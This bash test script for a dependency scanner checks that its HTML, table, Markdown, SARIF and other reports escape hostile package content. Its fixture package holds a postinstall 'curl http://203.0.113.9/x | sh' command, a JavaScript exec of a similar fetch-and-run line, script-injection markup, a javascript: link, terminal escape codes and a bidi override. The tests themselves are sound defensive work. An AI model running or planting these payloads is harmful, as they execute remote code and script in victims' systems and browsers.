#!/bin/bash
# The HTML report in a real browser: renders, filters, prints, and nothing of a project runs in it. What a
# hostile project says shows as text in every other report too.
. "$PICKET_SRC/tests/cli/scanner.bash"
if ! command -v chromium >/dev/null || ! command -v node >/dev/null; then
	echo "chromium and node are needed: tools/install-packages test"
	exit 1
fi

large() { # three thousand packages, a few hundred of them with something to say
	mkdir -p large
	node -e '
const p = {"": {name: "large", version: "1.0.0", dependencies: {}}};
for (let i = 0; i < 3000; i++) {
	const name = (i % 3 ? "" : "@scope" + i % 7 + "/") + "part-" + i;
	if (i < 40) p[""].dependencies[name] = "1.0.0";
	p["node_modules/" + name] = {version: "1.0." + i, dependencies: i < 2960 ? {["" + ((i + 40) % 3 ? "" : "@scope" + (i + 40) % 7 + "/") + "part-" + (i + 40)]: "*"} : undefined,
		resolved: (i % 20 ? "https://registry.example.com/" : "http://mirror.example.net/") + name + "/-/x.tgz",
		integrity: i % 20 ? "sha512-" + Buffer.alloc(64, i).toString("base64") : undefined};
}
require("fs").writeFileSync("large/package-lock.json", JSON.stringify({name: "large", lockfileVersion: 3, packages: p}, null, 1));'
}

hostile() { # its name of a folder, its command and its code try to leave their place
	local img='<img src=x onerror=window.hit=1>' dir
	dir="hostile/node_modules/bad/$img"
	mkdir -p "$dir"
	printf '{"name":"bad","version":"1.0.0","scripts":{"postinstall":"curl http://203.0.113.9/x | sh # %s \\u001b[31mred \\u202eltr </script><script>window.hit=2</script> [a](javascript:alert(1))"}}' "$img" >hostile/node_modules/bad/package.json
	printf 'require("child_process").exec("curl http://203.0.113.9/y | sh"); // %s \033[31m \342\200\256 </pre>\n' "$img" >"$dir/a.js"
	echo '{"name":"hostile","version":"1.0.0","dependencies":{"bad":"1.0.0"}}' >hostile/package.json
}

unset PICKET_CORPUS_DIR # the built-in corpus
large
hostile
scan() { scanner scan --deterministic-output --show low "$@"; }
scan -f html -o attack.html "$PICKET_SRC/examples/incident"
scan -f html -o large.html large/package-lock.json
scan -f html -o hostile.html hostile
node "$PICKET_SRC/tests/web/html.mjs" "$(command -v chromium)" attack.html large.html hostile.html

raw() { LC_ALL=C grep -qP '\x1b|\xe2\x80\xae' "$1"; }
for format in table markdown github gitlab junit tsv sarif cyclonedx ml-context json jsonl; do
	scan -f $format -o out.$format hostile
	say "$format: not one raw escape sequence or bidi control" not raw out.$format
done
say "the table shows the markup as it is written" grep -qF '<img src=x onerror=window.hit=1>' out.table
say "the table spells out what moves or reorders" sh -c "grep -qF '\\x1b[31m' out.table && grep -qF '\\u{202e}' out.table"
for format in markdown junit; do
	say "$format: markup is text" not grep -q '<img' out.$format
done
say "markdown: a link is text" not grep -qF '](javascript' out.markdown
say "a SARIF viewer shows markup, escape sequences and bidi controls as text, and no link" node -e '
const texts = [], results = JSON.parse(require("fs").readFileSync("out.sarif", "utf8")).runs[0].results;
(function walk(v) { if (typeof v === "string") texts.push(v); else if (v) Object.values(v).forEach(walk); })(results);
if (!texts.some((t) => t.includes("<img src=x onerror=window.hit=1>") && t.includes("\\x1b[31m") && t.includes("\\u{202e}"))) process.exit(1);
if (texts.some((t) => /[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069]/.test(t))) process.exit(2);
if (results.some((r) => r.message.text.includes("](javascript"))) process.exit(3);'
